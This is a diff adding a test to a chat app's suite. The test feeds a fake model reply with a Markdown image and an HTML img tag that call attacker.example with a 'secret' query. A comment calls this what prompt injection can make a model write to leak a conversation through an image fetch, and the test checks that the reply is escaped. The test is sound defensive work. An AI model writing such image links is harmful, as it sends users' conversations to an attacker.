@@ -338,3 +338,16 @@ def test_markup_in_a_message_is_shown_as_typed_and_its_lines_are_kept(open_page,
         "\\- not a list"
     )
     assert _assistant_texts(app)[0].startswith("**Bold** reply")  # a reply keeps the model's Markdown
+
+
+def test_an_image_or_html_in_a_reply_is_shown_as_text_and_its_markdown_kept(open_page, fake_model, monkeypatch):
+    calls = []
+    # What a prompt injection can make a model write to leak the conversation through an image fetch.
+    reply = "**Done** ![](http://attacker.example/?q=secret) <img src=http://attacker.example/b.png>\n\n`a < b`"
+    _patch_stream(monkeypatch, calls, chunks=(reply,))
+    app = open_page(PAGE)
+    app.chat_input(key="text_generation.prompt").set_value("Summarise").run()
+    assert not app.exception, [e.value for e in app.exception]
+    assert _assistant_texts(app)[0].startswith(
+        "**Done** &#33;[](http://attacker.example/?q=secret) &lt;img src=http://attacker.example/b.png>\n\n`a <\u2060 b`"
+    )
